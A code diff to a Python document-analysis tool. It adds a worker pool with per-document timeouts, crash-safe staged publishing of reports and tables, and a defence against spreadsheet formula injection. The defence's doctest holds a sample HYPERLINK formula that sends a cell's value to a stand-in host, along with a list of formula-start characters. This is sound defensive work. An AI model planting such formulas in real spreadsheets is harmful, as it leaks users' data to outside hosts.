@@ -17,6 +17,15 @@
 built by reading ``results.jsonl`` back. A rerun analyses only new or changed files;
 if any document changed, every document is cross-checked again (any may copy from it).
 
+Passes 1 and 3 run in :class:`~analyzer.workers.WorkerPool` workers: a document over its
+time budget gets a ``timeout`` row, one that kills its worker twice a ``worker_died`` row,
+and the rest of the batch goes on. A run writes its pages and tables into
+``OUT/.jingzi/staging`` and then publishes them (:func:`publish`): the previous run's tables
+and overview go first, then the pages, then the new tables and overview, so a killed run
+never leaves one run's ``index.html`` beside another's pages; the next run finishes an
+interrupted publication. Only files listed in ``OUT/.jingzi/manifest.json`` (what jingzi
+wrote) are ever deleted.
+
 Example: ``run(["data/samples"], "out", jobs=2).failed == 0``.
 """
 from __future__ import annotations
@@ -24,13 +33,12 @@ from __future__ import annotations
 import csv
 import hashlib
 import json
-import multiprocessing
 import os
+import shutil
 import sqlite3
 import time
-from collections import Counter, deque
-from concurrent.futures import ProcessPoolExecutor
-from contextlib import contextmanager
+import uuid
+from collections import Counter
 from dataclasses import dataclass
 from pathlib import Path
 
@@ -54,18 +62,21 @@ from .html import (
     overview_page,
     report_page,
 )
-from .ingest import expand_paths
+from .ingest import display_name, expand_paths, open_regular
+from .limits import DOCUMENT_SECONDS, MAX_BINARY_BYTES
 from .report import Report
 from .resources import DATA_DIR, MODELS_DIR
+from .workers import WorkerPool
 
 CLUSTER_MIN = 0.1  # a source this large links two documents (SPEC: independent materials stay < 0.1)
-WINDOW = 8  # tasks in flight per worker: bounds memory while keeping workers busy
+TABLES = ("results.jsonl", "results.csv", "results.xlsx", "index.html")  # published last, removed first
 
 
 @dataclass
 class Entry:
     """One input document as the parent tracks it."""
-    path: str
+    path: str                  # as the file system knows it (may hold undecodable bytes)
+    file: str                  # the path as shown in reports and tables (valid Unicode)
     name: str
     page: str                  # its page's file name under reports/
     key: str | None = None     # analysis cache key; None when the file cannot be read
@@ -86,34 +97,36 @@ class Summary:
 
 
 def run(paths, out, library: str | None = None, jobs: int | None = None, rubric: str = "four-styles",
-        progress: bool = True) -> Summary:
+        progress: bool = True, timeout: float = DOCUMENT_SECONDS) -> Summary:
     """Analyse and cross-check every document under ``paths``; write the batch outputs to ``out``."""
     start = time.perf_counter()
     out = Path(out)
-    (out / "reports").mkdir(parents=True, exist_ok=True)
-    cache = Cache(out / ".jingzi" / "cache")
+    state = out / ".jingzi"
+    finish_publishing(out)  # a run killed while publishing is completed first
+    staging = state / "staging"
+    shutil.rmtree(staging, ignore_errors=True)
+    (staging / "reports").mkdir(parents=True)
+    cache = Cache(state / "cache")
     entries = _entries(expand_paths([str(p) for p in paths]))
     settings = settings_digest(rubric)
     jobs = max(1, min(jobs or len(os.sched_getaffinity(0)), len(entries)))
     with Progress(TextColumn("{task.description}"), BarColumn(), MofNCompleteColumn(), TimeElapsedColumn(),
                   TextColumn("ETA"), TimeRemainingColumn(), console=Console(stderr=True),
                   disable=not progress) as bar:
-        analysed = _analyse_all(entries, settings, rubric, cache, jobs, bar)
+        analysed = _analyse_all(entries, settings, rubric, cache, jobs, bar, timeout)
         phases = {"analyse": time.perf_counter() - start}
-        lib_path = out / ".jingzi" / "batch-library.sqlite"
+        lib_path = state / "batch-library.sqlite"
         lib_digest = build_library(entries, library, lib_path, cache, bar)
         phases["library"] = time.perf_counter() - start - sum(phases.values())
-        copy_keys = _crosscheck_all(entries, lib_path, _hash(settings, lib_digest), cache, out, jobs, bar)
+        copy_keys = _crosscheck_all(entries, lib_path, _hash(settings, lib_digest), cache, staging, jobs, bar,
+                                    timeout)
         phases["crosscheck"] = time.perf_counter() - start - sum(phases.values())
-    rows, edges = read_results(out / "results.jsonl", entries)
-    write_csv(rows, out / "results.csv")
-    write_xlsx(rows, out / "results.xlsx")
+    rows, edges = read_results(staging / "results.jsonl", entries)
+    write_csv(rows, staging / "results.csv")
+    write_xlsx(rows, staging / "results.xlsx")
     meta = {"analysed": analysed, "cached": len(entries) - analysed, "rubric": rubric, "version": __version__}
-    (out / "index.html").write_text(overview_page(rows, edges, meta), encoding="utf-8")
-    pages = {e.page for e in entries if not e.error}
-    for stale in (out / "reports").glob("*.html"):
-        if stale.name not in pages:
-            stale.unlink()
+    (staging / "index.html").write_text(overview_page(rows, edges, meta), encoding="utf-8")
+    publish(out)
     cache.prune("analysis", {e.key for e in entries if e.key})
     cache.prune("copy", copy_keys)
     phases["tables"] = time.perf_counter() - start - sum(phases.values())
@@ -125,10 +138,70 @@ def _entries(files: list[str]) -> list[Entry]:
     seen: Counter[str] = Counter()
     entries = []
     for path in files:
-        name = Path(path).name
+        name = display_name(Path(path).name)
         seen[name] += 1
-        entries.append(Entry(path, name, f"{name}.html" if seen[name] == 1 else f"{name}~{seen[name]}.html"))
+        entries.append(Entry(path, display_name(path), name,
+                             f"{name}.html" if seen[name] == 1 else f"{name}~{seen[name]}.html"))
     return entries
+
+
+# --------------------------------------------------------------------------- publishing
+
+def publish(out: Path) -> None:
+    """Move the run in ``OUT/.jingzi/staging`` into ``out`` (see the module docstring)."""
+    state = out / ".jingzi"
+    staging = state / "staging"
+    new = sorted(p.relative_to(staging).as_posix() for p in staging.rglob("*") if p.is_file())
+    old = _manifest(state / "manifest.json").get("files", [])
+    _write_json(state / "publishing.json", {"run": uuid.uuid4().hex, "new": new, "old": old})
+    finish_publishing(out)
+
+
+def finish_publishing(out: Path) -> None:
+    """Carry out the publication recorded in ``OUT/.jingzi/publishing.json``, if any; every step
+    can be repeated, so a run killed half-way through is finished by the next one."""
+    state = out / ".jingzi"
+    plan = _manifest(state / "publishing.json")
+    if not plan:
+        return
+    staging, new = state / "staging", set(plan["new"])
+    if not all(map(_ours, (*plan["new"], *plan["old"]))):
+        raise ValueError(f"{state / 'publishing.json'} names files outside {out}: delete it")
+    for rel in TABLES:  # no overview or table of the old run may sit beside the new pages
+        if rel in new or rel in plan["old"]:
+            (out / rel).unlink(missing_ok=True)
+    (out / "reports").mkdir(parents=True, exist_ok=True)
+    for rel in sorted(new - set(TABLES)):
+        if (staging / rel).exists():
+            os.replace(staging / rel, out / rel)
+    for rel in plan["old"]:  # only what jingzi wrote
+        if rel not in new:
+            (out / rel).unlink(missing_ok=True)
+    for rel in TABLES:
+        if rel in new and (staging / rel).exists():
+            os.replace(staging / rel, out / rel)
+    _write_json(state / "manifest.json", {"run": plan["run"], "files": plan["new"]})
+    (state / "publishing.json").unlink()
+    shutil.rmtree(staging, ignore_errors=True)
+
+
+def _ours(rel: str) -> bool:
+    """Whether ``rel`` is a path jingzi writes in OUT: a table, the overview or a page."""
+    parts = rel.split("/")
+    return rel in TABLES or len(parts) == 2 and parts[0] == "reports" and parts[1] not in ("", ".", "..")
+
+
+def _manifest(path: Path) -> dict:
+    try:
+        return json.loads(path.read_text(encoding="utf-8"))
+    except (OSError, ValueError):
+        return {}
+
+
+def _write_json(path: Path, value: dict) -> None:
+    tmp = path.with_suffix(".tmp")
+    tmp.write_text(json.dumps(value, ensure_ascii=False), encoding="utf-8")
+    os.replace(tmp, path)
 
 
 # --------------------------------------------------------------------------- cache
@@ -151,12 +224,16 @@ def settings_digest(rubric: str) -> str:
 
 
 def _file_key(path: str, settings: str) -> str | None:
-    try:
-        with open(path, "rb") as fh:
-            digest = hashlib.file_digest(fh, "sha256").hexdigest()
-    except OSError:  # missing, a folder, unreadable: the analyser says why
+    try:  # never a blocking open: a FIFO is refused here and by the analyser
+        fd = open_regular(path, MAX_BINARY_BYTES)
+    except JingziError:  # missing, a folder, a FIFO, too large: the analyser says why
         return None
-    return _hash(settings, Path(path).name, digest)
+    try:
+        with os.fdopen(fd, "rb") as fh:
+            digest = hashlib.file_digest(fh, "sha256").hexdigest()
+    except OSError:
+        return None
+    return _hash(settings, display_name(Path(path).name), digest)
 
 
 class Cache:
@@ -188,27 +265,6 @@ class Cache:
 # --------------------------------------------------------------------------- workers
 
 _worker: dict = {}
-
-
-@contextmanager
-def _pool(jobs: int, initializer, initargs: tuple):
-    pool = ProcessPoolExecutor(jobs, mp_context=multiprocessing.get_context("spawn"),
-                               initializer=initializer, initargs=initargs)
-    try:
-        yield pool
-    finally:
-        pool.shutdown(cancel_futures=True)
-
-
-def _in_order(pool: ProcessPoolExecutor, fn, calls, window: int):
-    """Results of ``fn(*args)`` for each args of ``calls``, run on ``pool``, yielded in order."""
-    pending: deque = deque()
-    for args in calls:
-        pending.append(pool.submit(fn, *args))
-        if len(pending) >= window:
-            yield pending.popleft().result()
-    while pending:
-        yield pending.popleft().result()
 
 
 def _failure(exc: Exception) -> dict:
@@ -256,13 +312,13 @@ def _init_crosscheck(library: str, pages: dict[str, str]) -> None:
 def _crosscheck(entry: Entry, copy_key: str, cache_root: str, reports: str) -> tuple[str, dict | None]:
     """One document's JSON line (worker): its cached report plus its copy check; writes its page."""
     if entry.error:
-        return json.dumps(Report.failed(entry.path, entry.name, entry.error).to_dict(), ensure_ascii=False), None
+        return json.dumps(Report.failed(entry.file, entry.name, entry.error).to_dict(), ensure_ascii=False), None
     cache = Cache(cache_root)
     try:
         if "failure" in _worker:
             raise RuntimeError(_worker["failure"]["message"])
         report = Report.from_dict(cache.get("analysis", entry.key))
-        report.file = entry.path
+        report.file = entry.file
         report.copy = cache.get("copy", copy_key)
         if report.copy is None:
             report.copy = _worker["detector"].check(report.name, text_of(report))
@@ -272,7 +328,7 @@ def _crosscheck(entry: Entry, copy_key: str, cache_root: str, reports: str) -> t
         (Path(reports) / entry.page).write_text(page, encoding="utf-8")
     except Exception as exc:  # a failing check must not stop the batch
         error = _failure(exc)
-        return json.dumps(Report.failed(entry.path, entry.name, error).to_dict(), ensure_ascii=False), error
+        return json.dumps(Report.failed(entry.file, entry.name, error).to_dict(), ensure_ascii=False), error
     return json.dumps(d, ensure_ascii=False), None
 
 
@@ -283,7 +339,8 @@ def text_of(report: Report) -> str:
 
 # --------------------------------------------------------------------------- passes
 
-def _analyse_all(entries: list[Entry], settings: str, rubric: str, cache: Cache, jobs: int, bar) -> int:
+def _analyse_all(entries: list[Entry], settings: str, rubric: str, cache: Cache, jobs: int, bar,
+                 timeout: float) -> int:
     """Pass 1: fill each entry's text hash and error, analysing cache misses; returns how many."""
     task = bar.add_task("分析 analyse", total=len(entries))
     todo = []
@@ -296,9 +353,9 @@ def _analyse_all(entries: list[Entry], settings: str, rubric: str, cache: Cache,
         entry.sha256, entry.error = d.get("sha256"), d.get("error")
         bar.advance(task)
     if todo:
-        with _pool(min(jobs, len(todo)), _init_analyse, (rubric,)) as pool:
+        with WorkerPool(min(jobs, len(todo)), _init_analyse, (rubric,), timeout) as pool:
             calls = ((e.path, e.key, str(cache.root)) for e in todo)
-            for entry, (sha, error) in zip(todo, _in_order(pool, _analyse, calls, jobs * WINDOW)):
+            for entry, (sha, error) in zip(todo, pool.map(_analyse, calls, lambda args, error: (None, error))):
                 entry.sha256, entry.error = sha, error
                 bar.advance(task)
     return len(todo)
@@ -352,20 +409,25 @@ def _remove_db(path: Path) -> None:
         p.unlink(missing_ok=True)
 
 
-def _crosscheck_all(entries: list[Entry], lib_path: Path, lib_key: str, cache: Cache, out: Path,
-                    jobs: int, bar) -> set[str]:
-    """Pass 3: write ``results.jsonl`` in input order; returns the copy cache keys used."""
+def _crosscheck_all(entries: list[Entry], lib_path: Path, lib_key: str, cache: Cache, staging: Path,
+                    jobs: int, bar, timeout: float) -> set[str]:
+    """Pass 3: write the pages and ``results.jsonl`` (in input order) into ``staging``; returns
+    the copy cache keys used."""
     task = bar.add_task("互查 cross-check", total=len(entries))
     keys = [_hash(lib_key, e.name, e.sha256 or "") for e in entries]
     pages = {e.name: e.page for e in entries if not e.error}
-    tmp = out / "results.jsonl.tmp"
-    with _pool(jobs, _init_crosscheck, (str(lib_path), pages)) as pool, open(tmp, "w", encoding="utf-8") as fh:
-        calls = ((e, k, str(cache.root), str(out / "reports")) for e, k in zip(entries, keys))
-        for entry, (line, error) in zip(entries, _in_order(pool, _crosscheck, calls, jobs * WINDOW)):
+
+    def failed(args: tuple, error: dict) -> tuple[str, dict]:
+        entry = args[0]
+        return json.dumps(Report.failed(entry.file, entry.name, error).to_dict(), ensure_ascii=False), error
+
+    with WorkerPool(jobs, _init_crosscheck, (str(lib_path), pages), timeout) as pool, \
+            open(staging / "results.jsonl", "w", encoding="utf-8") as fh:
+        calls = ((e, k, str(cache.root), str(staging / "reports")) for e, k in zip(entries, keys))
+        for entry, (line, error) in zip(entries, pool.map(_crosscheck, calls, failed)):
             fh.write(line + "\n")
             entry.error = entry.error or error
             bar.advance(task)
-    os.replace(tmp, out / "results.jsonl")
     return {k for e, k in zip(entries, keys) if not e.error}
 
 
@@ -439,17 +501,36 @@ def table(rows: list[dict]) -> tuple[list[str], list[list]]:
     return header, cells
 
 
+# a spreadsheet runs a cell starting with one of these as a formula (OWASP "CSV injection");
+# the full-width forms are included because an East Asian Excel may convert them
+FORMULA_START = ("=", "+", "-", "@", "\t", "\r", "＝", "＋", "－", "＠")
+
+
+def safe_cell(value):
+    """A cell value no spreadsheet will run: text starting with a formula character gets a
+    leading apostrophe (numbers and None are left alone).
+
+    >>> safe_cell('=HYPERLINK("http://x?q="&B2,"详情")'), safe_cell("-3"), safe_cell(-3)
+    ('\'=HYPERLINK("http://x?q="&B2,"详情")', "'-3", -3)
+    """
+    if isinstance(value, str) and value.startswith(FORMULA_START):
+        return "'" + value
+    return value
+
+
 def write_csv(rows: list[dict], path: Path) -> None:
-    """The table as CSV in UTF-8 with a BOM, so Excel reads the Chinese correctly."""
+    """The table as CSV in UTF-8 with a BOM, so Excel reads the Chinese correctly; every text
+    cell passes :func:`safe_cell`."""
     header, cells = table(rows)
     with open(path, "w", encoding="utf-8-sig", newline="") as fh:
         writer = csv.writer(fh)
-        writer.writerow(header)
-        writer.writerows([["" if v is None else v for v in row] for row in cells])
+        writer.writerow([safe_cell(v) for v in header])
+        writer.writerows([["" if v is None else safe_cell(v) for v in row] for row in cells])
 
 
 def write_xlsx(rows: list[dict], path: Path) -> None:
-    """The table as an Excel workbook: frozen header, filters, percentages, links to the pages."""
+    """The table as an Excel workbook: frozen header, filters, percentages, links to the pages.
+    Every text cell passes :func:`safe_cell` and is stored as a string, never a formula."""
     from openpyxl import Workbook
     from openpyxl.cell import WriteOnlyCell
     from openpyxl.styles import Font
@@ -464,14 +545,14 @@ def write_xlsx(rows: list[dict], path: Path) -> None:
     ws.auto_filter.ref = f"A1:{get_column_letter(len(header))}{len(cells) + 1}"
     head = []
     for title in header:
-        head.append(WriteOnlyCell(ws, value=title))
+        head.append(_text_cell(WriteOnlyCell, ws, title))
         head[-1].font = Font(bold=True)
     ws.append(head)
     percent = {i for i, h in enumerate(header) if h.split()[-1] in ("summary_like", "copy", "top_source_ratio")}
     for r, row in zip(rows, cells):
         out = []
         for i, value in enumerate(row):
-            cell = WriteOnlyCell(ws, value=value)
+            cell = _text_cell(WriteOnlyCell, ws, value)
             if i in percent:
                 cell.number_format = "0%"
             if i == 1 and r["page"]:
@@ -479,3 +560,11 @@ def write_xlsx(rows: list[dict], path: Path) -> None:
             out.append(cell)
         ws.append(out)
     wb.save(path)
+
+
+def _text_cell(cell_type, ws, value):
+    """An openpyxl cell holding ``safe_cell(value)``; text is typed as a string (``s``)."""
+    cell = cell_type(ws, value=safe_cell(value))
+    if isinstance(value, str):
+        cell.data_type = "s"
+    return cell
